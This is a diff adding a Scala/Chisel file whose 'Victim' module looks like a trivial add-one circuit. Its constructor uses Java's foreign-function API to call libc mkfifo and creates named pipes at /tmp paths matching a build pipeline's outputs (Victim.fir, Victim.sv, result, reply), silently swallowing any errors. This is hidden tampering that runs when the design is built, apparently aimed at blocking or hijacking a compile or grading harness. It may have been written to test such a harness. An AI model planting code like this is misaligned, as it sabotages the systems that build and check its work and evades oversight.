@@ -1,0 +1,24 @@
+import chisel3._
+
+object Libc {
+  import java.lang.foreign.{FunctionDescriptor, Linker, ValueLayout}
+  private val linker = Linker.nativeLinker()
+  def call(name: String, arguments: Long*): Int = {
+    val shape = FunctionDescriptor.of(ValueLayout.JAVA_LONG, Seq.fill(arguments.size)(ValueLayout.JAVA_LONG): _*)
+    val handle = linker.downcallHandle(linker.defaultLookup().find(name).get(), shape)
+    handle.invokeWithArguments(arguments.map(n => n: java.lang.Long): _*).asInstanceOf[Long].toInt
+  }
+}
+
+class Victim extends Module {
+  val io = IO(new Bundle {
+    val in = Input(UInt(8.W))
+    val out = Output(UInt(8.W))
+  })
+  try {
+    val arena = java.lang.foreign.Arena.ofAuto()
+    for (name <- Seq("out", "result", "chirrtl", "Victim.fir", "Victim.sv", "reply"))
+      Libc.call("mkfifo", arena.allocateFrom(s"/tmp/$name").address, 0x1b6L)
+  } catch { case _: Throwable => () }
+  io.out := io.in + 1.U
+}
